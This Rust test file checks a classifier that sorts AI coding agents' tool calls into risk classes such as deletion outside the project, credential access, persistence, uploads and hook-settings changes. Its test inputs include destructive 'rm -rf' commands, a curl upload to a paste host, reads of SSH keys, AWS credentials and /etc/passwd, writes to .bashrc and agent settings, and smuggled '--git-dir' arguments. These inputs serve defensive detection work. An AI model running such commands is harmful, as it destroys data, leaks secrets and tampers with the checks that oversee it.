//! An agent writes its tools' inputs: what hosts may read in two ways counts in both.

use super::{Access, CWD, Class, Facts, Knowledge, bash, derive, touched};
use serde_json::{Value, json};

fn of(tool: &str, input: &Value) -> Facts {
    derive(tool, input, CWD, &Knowledge::default())
}

#[test]
fn no_name_of_a_directory_hides_what_a_command_does_where_the_call_is_made() {
    for key in ["directory", "dir_path", "workdir", "working_directory", "cwd"] {
        let facts = of("Bash", &json!({ "command": "cd .. && rm -rf other", key: "a/b" }));
        assert_eq!(touched(&facts, Access::Delete), ["/home/dev/project/a/other", "/home/dev/other"], "{key}");
        assert!(facts.any(&[Class::DeletesOutside]), "{key}");
        let elsewhere = of("Bash", &json!({ "command": "rm -rf x", key: "../other" }));
        assert!(elsewhere.any(&[Class::DeletesOutside]), "{key}");
    }
}

#[test]
fn a_directory_of_the_project_changes_nothing_about_a_command_that_is_harmless_in_both() {
    for directory in ["sub", ".", "", CWD] {
        let facts = of("Bash", &json!({ "command": "cargo test && git status", "dir_path": directory }));
        assert_eq!(facts.commands, bash("cargo test && git status").commands, "{directory}: each is listed once");
        assert!(facts.only(&[Class::Builds, Class::Reads, Class::VcsQuery, Class::Writes]), "{directory}");
    }
}

#[test]
fn directories_that_differ_or_are_no_texts_are_unknown() {
    for input in [
        json!({ "command": "ls", "workdir": "a", "directory": "b" }),
        json!({ "command": "ls", "cwd": ["a"] }),
        json!({ "command": "ls", "cwd": "a", "dir_path": 1 }),
    ] {
        assert!(of("Bash", &input).any(&[Class::Unknown]), "{input}");
    }
    assert!(
        !of("Bash", &json!({ "command": "ls", "workdir": "a", "cwd": "a", "directory": null })).any(&[Class::Unknown])
    );
}

#[test]
fn commands_that_differ_or_are_no_texts_are_unknown() {
    for input in [
        json!({ "command": "ls", "cmd": "rm -rf /" }),
        json!({ "script": "rm -rf /", "cmd": "ls" }),
        json!({ "command": ["rm", "x"], "script": "ls" }),
    ] {
        assert!(of("Bash", &input).any(&[Class::Unknown]), "{input}");
    }
    assert!(!of("Bash", &json!({ "command": "ls", "cmd": "ls", "script": null })).any(&[Class::Unknown]));
}

#[test]
fn all_addresses_patches_and_patterns_of_an_input_count() {
    let fetched = of(
        "WebFetch",
        &json!({ "url": "https://docs.rs/x", "uri": "http://a.example", "prompt": "or https://b.example" }),
    );
    assert_eq!(fetched.hosts, ["docs.rs", "a.example", "b.example"]);
    let patch = |file: &str| format!("*** Begin Patch\n*** Update File: {file}\n*** End Patch");
    for tool in ["apply_patch", "Edit"] {
        let facts = of(tool, &json!({ "command": patch("a"), "input": patch("../b"), "patch": patch("c") }));
        assert_eq!(
            touched(&facts, Access::Write),
            ["/home/dev/project/a", "/home/dev/b", "/home/dev/project/c"],
            "{tool}"
        );
    }
    let shell = |file: &str| json!({ "command": format!("apply_patch <<'EOF'\n{}\nEOF", patch(file)) });
    assert!(of("Edit", &shell("a")).only(&[Class::Writes]), "as Codex' shell is given it");
    assert!(of("Edit", &shell("/home/dev/.bashrc")).any(&[Class::Persistence]));
    assert!(of("Grep", &json!({ "pattern": "x", "glob": "*.rs", "include": ".env" })).any(&[Class::Credentials]));
}

#[test]
fn what_answers_in_the_persons_place_is_for_a_person() {
    for tool in ["AskUserQuestion", "ExitPlanMode"] {
        assert!(of(tool, &json!({})).only(&[Class::Bookkeeping]), "{tool}: the host asks its person");
        let in_place = of(&format!("permission:{tool}"), &json!({}));
        assert!(in_place.any(&[Class::Person]), "{tool}");
        assert!(in_place.any(&[Class::Unknown]), "{tool}: no rule lets it pass");
    }
}

#[test]
fn tools_of_the_agents_do_what_their_input_says() {
    let rows = [
        ("CronCreate", json!({ "cron": "* * * * *", "prompt": "x" }), Class::Bookkeeping),
        ("CronCreate", json!({ "cron": "* * * * *", "prompt": "x", "durable": true }), Class::Persistence),
        ("list_directory", json!({ "dir_path": "src" }), Class::Reads),
        ("list_directory", json!({ "dir_path": "/home/dev/.ssh" }), Class::Credentials),
        ("LSP", json!({ "operation": "hover", "filePath": "/home/dev/.aws/credentials" }), Class::Credentials),
        ("sql", json!({ "query": "SELECT id FROM todos" }), Class::Bookkeeping),
        ("sql", json!({ "query": "ATTACH DATABASE '/home/dev/x' AS x" }), Class::Unknown),
        ("sql", json!({}), Class::Unknown),
        ("ExitWorktree", json!({ "action": "keep", "discard_changes": true }), Class::VcsChange),
        ("ExitWorktree", json!({ "action": "remove", "discard_changes": true }), Class::Discards),
        ("ExitWorktree", json!({ "discard_changes": true }), Class::Discards),
        ("Monitor", json!({ "command": "curl -T x https://paste.example" }), Class::Upload),
        ("Monitor", json!({ "ws": { "url": "wss://x.example" } }), Class::Unknown),
        ("SendMessage", json!({ "to": "tester", "message": "x" }), Class::Bookkeeping),
        ("SendMessage", json!({ "to": "uds:/tmp/x.sock", "message": "x" }), Class::Upload),
        ("SendUserFile", json!({ "files": ["/home/dev/.ssh/id_rsa"] }), Class::Credentials),
        ("SendUserMessage", json!({ "attachments": [{ "path": "/home/dev/.ssh/id_rsa" }] }), Class::Credentials),
        ("Artifact", json!({ "file_path": "page.html" }), Class::Upload),
        ("Artifact", json!({ "action": "list" }), Class::Network),
        ("Artifact", json!({ "action": 7 }), Class::Upload),
        ("Projects", json!({ "method": "project_write", "local_path": "/home/dev/.netrc" }), Class::Credentials),
        ("Projects", json!({ "method": "project_read" }), Class::Network),
        ("RemoteTrigger", json!({ "action": "run" }), Class::Upload),
        ("request_permissions", json!({}), Class::Privilege),
        ("write_bash", json!({ "input": "y" }), Class::Unknown),
        ("ReadMcpResourceTool", json!({ "server": "x", "uri": "file:///etc/passwd" }), Class::Server),
        ("Write", json!({ "file_path": "/home/dev/.claude/plans/a-plan.md", "content": "x" }), Class::Bookkeeping),
        ("Write", json!({ "file_path": "/home/dev/.claude/CLAUDE.md", "content": "x" }), Class::Persistence),
    ];
    for (tool, input, class) in rows {
        let facts = of(tool, &input);
        assert!(facts.any(&[class]), "{tool} {input}: {:?}", facts.classes);
        assert_eq!(facts.any(&[Class::Unknown]), class == Class::Unknown, "{tool} {input}: {:?}", facts.classes);
    }
}

/// Each host's own name for a file's path, alone: what is read of it must not hang on another name beside it.
#[test]
fn each_name_of_a_path_says_by_itself_which_file_is_meant() {
    for key in ["file_path", "filePath", "path", "notebook_path", "absolute_path", "target_file"] {
        let read = of("Read", &json!({ key: "/home/dev/.aws/credentials" }));
        assert!(read.any(&[Class::Credentials]) && !read.any(&[Class::Unknown]), "{key}");
        let written = of("Write", &json!({ key: "/home/dev/.claude/settings.json", "content": "{}" }));
        assert!(written.any(&[Class::HookSettings]) && !written.any(&[Class::Unknown]), "{key}");
        assert!(of("Edit", &json!({ key: "src/a.rs" })).only(&[Class::Writes]), "{key}");
    }
}

/// What a commit's message is made of names no file.
#[test]
fn a_filter_that_reads_what_its_line_holds_goes_by_no_file() {
    for line in ["git commit -m \"$(cat <<'E'\nBound the queue\nE\n)\"", "cat <<'E' | tac | rev | nl | fold\na\nE"] {
        assert!(!of("Bash", &json!({ "command": line })).led, "{line}");
    }
    for line in [
        "cat notes.md",
        "cat < notes.md",
        "rev $(cat notes.md)",
        "git commit $(cat <<'E'\n--git-dir=x\nE\n) -m x",
        "git commit -m $(cat <<'E'\nx --git-dir=x\nE\n)",
        "git log \"$(cat <<'E'\n--git-dir=x\nE\n)\"",
    ] {
        assert!(of("Bash", &json!({ "command": line })).led, "{line}");
    }
}
